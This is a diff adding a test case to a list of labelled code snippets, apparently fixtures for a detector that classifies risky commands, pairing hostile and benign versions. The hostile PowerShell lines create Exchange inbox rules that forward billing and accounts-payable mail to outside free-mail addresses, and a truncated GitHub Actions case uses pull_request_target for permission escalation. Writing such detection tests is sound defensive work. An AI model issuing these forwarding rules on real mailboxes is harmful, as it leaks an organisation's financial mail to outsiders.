@@ -52,6 +52,9 @@ CASES = [
     ("data-exfiltration",
      "```powershell\nNew-InboxRule -Name Archive -From billing -ForwardTo ap.copy@gmail.com\n```\n",
      "```powershell\nNew-InboxRule -Name Archive -From billing -MoveToFolder Finance\n```\n"),
+    ("data-exfiltration",
+     "```powershell\nNew-InboxRule -Name Copy -From ap -ForwardAsAttachmentTo ap@gmx.net\n```\n",
+     "```powershell\nNew-InboxRule -Name Copy -From billing -MarkAsRead $true\n```\n"),
     ("permission-escalation",
      "```yaml\non:\n  pull_request_target:\njobs:\n  build:\n    steps:\n"
      "      - uses: actions/checkout@v4\n        with:\n"
